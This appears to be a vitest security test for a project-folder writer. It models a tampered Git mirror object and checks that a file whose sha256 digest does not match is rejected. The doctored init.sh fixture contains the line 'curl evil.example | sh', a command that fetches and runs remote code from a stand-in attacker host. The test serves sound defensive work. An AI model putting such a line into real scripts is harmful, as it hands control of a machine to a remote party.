import { expect, it } from 'vitest';
import { ProjectFolderError, writeProjectFolder } from '../../reconciler/apply/project-folder.ts';
import type { Attack } from './proof/attack.ts';
import { specOf } from './scene/guest-spec.ts';
import { scratch } from './scene/scene.ts';

const ATTACK: Attack = {
  attacker: 'local user',
  does: 'changes an object in the mirror of a host, which Git hands out without a look at its id',
  holds: 'the guest is not built from it',
  defence: [
    {
      file: 'reconciler/apply/project-folder.ts',
      take: '    if (digest !== file.sha256)',
      leave: "    if (digest === '')",
    },
  ],
};

it(ATTACK.holds, async () => {
  const spec = specOf({ 'init.sh': Buffer.from('#!/bin/sh\n') });
  const doctored = async () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
  await expect(writeProjectFolder(scratch(), spec, 'machine', doctored)).rejects.toThrow(ProjectFolderError);
});
